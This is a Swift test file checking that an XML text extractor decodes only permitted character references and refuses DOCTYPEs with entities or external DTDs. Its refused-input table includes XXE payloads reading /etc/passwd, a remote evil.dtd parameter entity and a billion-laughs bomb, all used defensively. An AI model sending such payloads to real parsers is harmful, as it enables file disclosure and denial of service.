import MedtagIngest
import Testing

/// Regressions found by fuzzing the XML text extractor (Fuzz/Harnesses/XMLText.swift).
struct ReliabilityXMLTests {
    @Test("character references to NUL and other characters XML forbids stay literal")
    func forbiddenCharacterReferences() throws {
        // The fuzzer's input: `&#+0;` was read as NUL (a sign was accepted, and 0 was not refused).
        let found = try XMLText.extract(Array("9P a &#+0;I  &#+-;I v".utf8))
        #expect(!found.unicodeScalars.contains { $0.value == 0 })
        #expect(found.contains("&#+0;"))
        let text = try XMLText.extract(Array("<d>a&#0;b&#x0;c&#1;d&#xFFFE;e&#+65;f&#-1;g&#x;h</d>".utf8))
        #expect(text == "a&#0;b&#x0;c&#1;d&#xFFFE;e&#+65;f&#-1;g&#x;h\n")
    }

    @Test("allowed character references are still decoded")
    func allowedCharacterReferences() throws {
        let text = try XMLText.extract(Array("<d>&#65;&#x42;&#X43;&#9;&#233;&#x1F48A;&amp;&lt;</d>".utf8))
        #expect(text == "ABC\té💊&<\n")
    }

    // A DOCTYPE that declares entities or names an external DTD is refused with a reason a person
    // can act on; nothing in it is ever loaded or expanded.
    static let refusedDoctypes: [(String, String, InputError)] = [
        ("external entity (SYSTEM)",
         #"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><d>&xxe; paracetamol</d>"#,
         XMLText.entitiesRefused),
        ("external entity (PUBLIC)",
         #"<!DOCTYPE d [<!ENTITY xxe PUBLIC "-//X//Y//EN" "http://192.0.2.1/x">]><d>&xxe;</d>"#,
         XMLText.entitiesRefused),
        ("parameter entity",
         #"<!DOCTYPE d [<!ENTITY % dtd SYSTEM "http://192.0.2.1/evil.dtd"> %dtd;]><d>omeprazol</d>"#,
         XMLText.entitiesRefused),
        ("internal entity, any case and spacing",
         "<!doctype d [\n  <!entity\tnombre \"x\">\n]>\n<d>&nombre;</d>",
         XMLText.entitiesRefused),
        ("billion laughs",
         #"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">"#
            + #"<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>"#,
         XMLText.entitiesRefused),
        ("external DTD (SYSTEM)",
         #"<?xml version="1.0"?><!DOCTYPE d SYSTEM "file:///etc/passwd"><d>omeprazol</d>"#,
         XMLText.externalDTDRefused),
        ("external DTD (PUBLIC)",
         #"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html>x</html>"#,
         XMLText.externalDTDRefused),
        ("external DTD and an internal subset",
         #"<!DOCTYPE d SYSTEM 'x.dtd' [<!ELEMENT d (#PCDATA)>]><d>x</d>"#,
         XMLText.externalDTDRefused),
        ("a stray entity declaration outside any DOCTYPE",
         #"<!ENTITY x SYSTEM "file:///etc/passwd"><d>&x;</d>"#,
         XMLText.entitiesRefused),
    ]

    @Test("a DOCTYPE that declares entities or names an external DTD is refused", arguments: 0..<refusedDoctypes.count)
    func refusedDoctype(_ index: Int) {
        let (what, xml, expected) = Self.refusedDoctypes[index]
        let error = #expect(throws: InputError.self, "\(what)") { try XMLText.extract(Array(xml.utf8)) }
        #expect(error == expected, "\(what)")
        #expect(error?.code == "xml-doctype")
        #expect(error?.reason.contains("remove the DOCTYPE") == true)
    }

    @Test("a DOCTYPE without entities or an external DTD is still accepted")
    func plainDoctypeAccepted() throws {
        #expect(try XMLText.extract(Array("<!DOCTYPE html><html><p>Paracetamol 1 g</p></html>".utf8)) == "Paracetamol 1 g\n")
        #expect(try XMLText.extract(Array("<?xml version=\"1.0\"?>\n<!DOCTYPE d>\n<d>AAS</d>".utf8)) == "AAS\n")
        // An internal subset without entity declarations; a name that merely contains the keywords.
        let subset = #"<!DOCTYPE d [<!ELEMENT d (#PCDATA)><!ATTLIST d id CDATA "SYSTEM">]><d>omeprazol</d>"#
        #expect(try XMLText.extract(Array(subset.utf8)) == "omeprazol\n")
        #expect(try XMLText.extract(Array("<!DOCTYPE SYSTEMS><SYSTEMS>x</SYSTEMS>".utf8)) == "x\n")
        // An undeclared reference still stays literal, never expanded.
        #expect(try XMLText.extract(Array("<!DOCTYPE d><d>&desconocida; fin</d>".utf8)) == "&desconocida; fin\n")
    }
}
